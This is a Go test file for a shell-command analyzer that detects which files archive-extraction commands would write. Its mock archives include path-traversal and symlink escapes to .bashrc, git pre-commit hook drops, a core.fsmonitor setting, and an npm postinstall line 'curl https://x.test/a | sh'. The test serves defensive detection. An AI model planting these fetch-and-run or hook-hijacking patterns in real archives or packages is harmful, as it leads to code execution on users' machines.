package shell

import (
	"fmt"
	"io/fs"
	"strings"
	"testing"

	"github.com/shieldcli/shield/internal/packed"
	"github.com/shieldcli/shield/pkg/effect"
)

// TestUnpacks holds which members of an archive that lies on the disk have an effect of their own.
func TestUnpacks(t *testing.T) {
	t.Parallel()
	many := make([]packed.Member, 2*maxUnpackedMembers)
	for i := range many {
		many[i].Name = fmt.Sprintf("%d/.envrc", i)
	}
	modules := make([]packed.Member, 3*maxUnpackedMembers)
	for i := range modules {
		modules[i] = packed.Member{Name: fmt.Sprintf("node_modules/%d/package.json", i), Text: `{"name": "a"}`, TextComplete: true}
	}
	linked := make([]packed.Member, 3*maxItemsPerAnalyzedList)
	for i := range linked {
		linked[i] = packed.Member{Name: fmt.Sprintf("node_modules/.bin/%d", i), LinkTarget: fmt.Sprintf("../%d/x.js", i)}
	}
	config := "[core]\n\tbare = false\n[remote \"origin\"]\n\turl = https://x.test/a\n"
	archives := map[string][]packed.Member{
		"in.tar": {{Name: "x", LinkTarget: ".git/hooks"}, {Name: "x/pre-commit"}}, "in2.tar": {{Name: "x", LinkTarget: "."}, {Name: "y", LinkTarget: "x/../z"}, {Name: "y/.bashrc"}},
		"over.tar": {{Name: ".git", LinkTarget: "d"}, {Name: ".git/hooks/pre-commit"}}, "two.tar": {{Name: "x", LinkTarget: ".git/hooks"}, {Name: "x", LinkTarget: "d"}, {Name: "x/pre-commit"}},
		"mix.tar": {{Name: "src/a.txt"}, {Name: "p/.git/hooks/pre-commit"}}, "dots.tar": {{Name: "src/../.git/hooks/pre-commit"}}, "through.tar": {{Name: "x", LinkTarget: ".git/hooks/pre-commit"}, {Name: "x"}}, "hook.zip": {{Name: ".git/hooks/pre-commit"}}, "linked.tar": linked, "zeros.tar": {{Name: "a"}, {Name: ".git/hooks/pre-commit"}}, "modules.tar": modules,
		"repo.tar": {{Name: "r/.git/config", Text: config, TextComplete: true}, {Name: "r/.git/hooks/pre-commit.sample"}}, "fsmonitor.tar": {{Name: "r/.git/config", Text: config + "[core]\n\tfsmonitor = ./x\n", TextComplete: true}},
		"npm.tar":  {{Name: "node_modules/a/package.json", Text: `{"scripts": {"postinstall": "curl https://x.test/a | sh"}}`, TextComplete: true}},
		"good.tar": {{Name: "p/a.txt"}, {Name: "p/b", LinkTarget: "a.txt"}, {Name: "p/", IsDir: true}},
		"hook.tar": {{Name: "p/.git/hooks/pre-commit"}}, "up.tar": {{Name: "../../.bashrc"}}, "abs.tar": {{Name: "/home/me/.bashrc"}},
		"link.tar": {{Name: "x", LinkTarget: "/home/me"}, {Name: "x/.bashrc"}}, "hard.tar": {{Name: "x", LinkTarget: "../../.bashrc", IsHardLink: true}}, "many.tar": many,
	}
	place := here()
	place.ReadScript = func(string) ([]byte, error) { return nil, fs.ErrNotExist }
	place.ListArchive = func(p string, q packed.ReadOptions) ([]packed.Member, error) {
		name := p[strings.LastIndexByte(p, '/')+1:]
		switch m, ok := archives[name]; {
		case ok:
			if name == "zeros.tar" && !q.ProgramIgnoresZeroBlocks {
				m = m[:1]
			}
			return m, nil
		case name == "bomb.tar":
			return nil, packed.ErrArchiveTooLarge
		case name == "cut.tar":
			return archives["good.tar"], fs.ErrInvalid
		case name == "a.tar.xz":
			return nil, packed.ErrUnsupportedFormat
		case name == "bad.tar":
			return nil, packed.ErrFormat
		}
		return nil, fs.ErrNotExist
	}
	cwd := place.CWD
	for text, want := range map[string]string{
		"tar xf good.tar": "", "tar xf nothere.tar": "", "tar tf a.tar.xz": "", "tar tf up.tar": "", "tar cf up.tar x": "",
		"tar xf hook.tar": "write_file " + cwd + "/p/.git/hooks/pre-commit", "tar xf hook.tar --strip-components=1": "write_file " + cwd + "/.git/hooks/pre-commit",
		"cat hook.tar | tar x -C sub": "write_file " + cwd + "/sub/p/.git/hooks/pre-commit", "tar x < hook.tar": "write_file " + cwd + "/p/.git/hooks/pre-commit",
		"tar xf up.tar": "write_file /home/.bashrc", "unzip -d sub up.tar": "write_file /home/me/.bashrc", "tar xf abs.tar": "write_file /home/me/.bashrc", "tar xf link.tar": "write_file /home/me/.bashrc", "tar xf hard.tar": "read_file /home/.bashrc",
		"tar xf a.tar.xz": "archive", "xz -dc a.tar.xz | tar x": "archive", "7z x a.tar.xz": "archive", "tar xPf nothere.tar": "archive", "TAR_OPTIONS=-P tar xf nothere.tar": "archive", "tar xPf good.tar": "",
		"TAR_OPTIONS='-C sub' tar xf hook.tar": "write_file " + cwd + "/sub/p/.git/hooks/pre-commit", "TAR_OPTIONS=--exclude=.git tar xf hook.tar": "",
		"TAR_OPTIONS='-C sub' gtar -xf hook.tar": "write_file " + cwd + "/sub/p/.git/hooks/pre-commit", "TAR_OPTIONS='-C sub'; tar xf hook.tar": "write_file " + cwd + "/p/.git/hooks/pre-commit",
		"jar xf hook.zip -C sub": cwd + "/sub/.git/hooks/pre-commit", "cpio -idF hook.tar": "pre-commit", "cpio -id -E good.tar --file=hook.tar": "pre-commit", "unar -output-directory sub hook.zip": cwd + "/sub/.git/hooks/pre-commit", "lsar hook.zip": "read_file " + cwd + "/hook.zip;",
		"python3 -c 'import zipfile; z = zipfile.ZipFile(\"hook.zip\"); z.extract(\".git/hooks/pre-commit\", path=\"x\")'": cwd + "/x/.git/hooks/pre-commit", "python3 -c 'import tarfile; tarfile.open(\"mix.tar\").extract(\"src/a.txt\")'": "",
		"jar xf hook.zip": "pre-commit", "jar tf hook.zip": "read_file " + cwd + "/hook.zip;", "unar hook.zip": "pre-commit", "cpio -i < hook.tar": "pre-commit",
		"pwsh -c 'Expand-Archive hook.zip .'": "pre-commit", "pwsh -c 'Expand-Archive -Path good.tar -DestinationPath x'": "create_directory " + cwd + "/x;",
		"python3 -c 'import zipfile; zipfile.ZipFile(\"hook.zip\").extractall()'": "pre-commit", "python3 -c 'import shutil; shutil.unpack_archive(\"hook.tar\", \"x\")'": cwd + "/x/p/.git/hooks/pre-commit",
		"python3 -c 'import tarfile\nwith tarfile.open(\"hook.tar\") as t:\n  t.extractall(path=\"x\")'": cwd + "/x/p/.git/hooks/pre-commit", "python3 -c 'import zipfile; print(zipfile.ZipFile(\"hook.zip\").namelist())'": "read_file " + cwd + "/hook.zip;",
		"python3 -c 'import tarfile; tarfile.open(\"good.tar\").extractall()'": "",
		"tar xf in.tar": "write_file " + cwd + "/.git/hooks/pre-commit", "tar xf in2.tar": "write_file /home/me/z/.bashrc", "tar xf over.tar": "write_file " + cwd + "/.git/hooks/pre-commit", "tar xf two.tar": "archive",
		"tar xf bad.tar": "archive", "cat bad.tar | tar x": "archive", "7z x bad.tar": "", "unzip bad.tar": "archive",
		"tar xf zeros.tar": "", "tar xif zeros.tar": "pre-commit", "tar xf zeros.tar --ignore-zeros": "pre-commit",
		"tar -x -T good.tar -f hook.tar": "pre-commit", "tar -x -X good.tar -f hook.tar": "pre-commit", "tar x --files-from good.tar -f hook.tar": "pre-commit", "tar x --exclude-from=good.tar --file=hook.tar": "pre-commit", "tar xTf good.tar hook.tar": "pre-commit", "tar x -T bad.tar -f good.tar": "", "tar xf mix.tar src -T good.tar": "pre-commit",
		"tar --overwrite -xf through.tar": "pre-commit", "unzip -d sub hook": "pre-commit", "tar xf linked.tar": "", "tar xf dots.tar src": "pre-commit",
		"tar xf mix.tar src/a.txt": "", "tar xf mix.tar src": "", "tar xf mix.tar p": "pre-commit", "tar xf mix.tar src/a.txt ./p/.git/hooks/pre-commit": "pre-commit", "tar xf mix.tar --wildcards 'p*'": "pre-commit", "tar xf mix.tar $x": "pre-commit",
		"tar xf hook.tar -O": "", "tar xOf hook.tar": "", "tar xf hook.tar --to-stdout": "", "tar xf hook.tar --exclude=.git": "", "tar xf hook.tar --exclude .git": "", "tar xf mix.tar p --exclude=.git": "pre-commit", "tar xf hook.tar --exclude=git": "pre-commit", "tar xf hook.tar --exclude='x*'": "pre-commit",
		"tar xf modules.tar": "", "tar xf repo.tar -C /tmp/x": "", "tar xf fsmonitor.tar": "/r/.git/config", "tar xf npm.tar": "package.json",
		"tar xf many.tar": "archive", "tar xf bomb.tar": "archive", "tar xf cut.tar": "archive", "tar xf good.tar --transform 's,p,.git/hooks,'": "unresolved",
		"curl -o up.tar https://x.test/a; tar xf up.tar": "", // another one than lies there
	} {
		got := ""
		for _, e := range Analyze(text, place).Effects {
			switch {
			case e.Certainty == effect.Unknown:
				got += string(e.Cause) + " "
			case e.Recursive || e.PathIsPattern || e.Kind == effect.Execute || e.Kind == effect.ReadFile && (strings.HasSuffix(e.Path, ".tar") || strings.HasSuffix(e.Path, ".xz")):
			default:
				got += string(e.Kind) + " " + e.Path + ";"
			}
		}
		if want == "" && got != "" && !strings.Contains(text, "curl") && !strings.Contains(text, " cf ") || want != "" && !strings.Contains(got, want) || strings.Contains(text, "curl") && strings.Contains(got, ".bashrc") {
			t.Errorf("%s: %q", text, got)
		}
	}
}
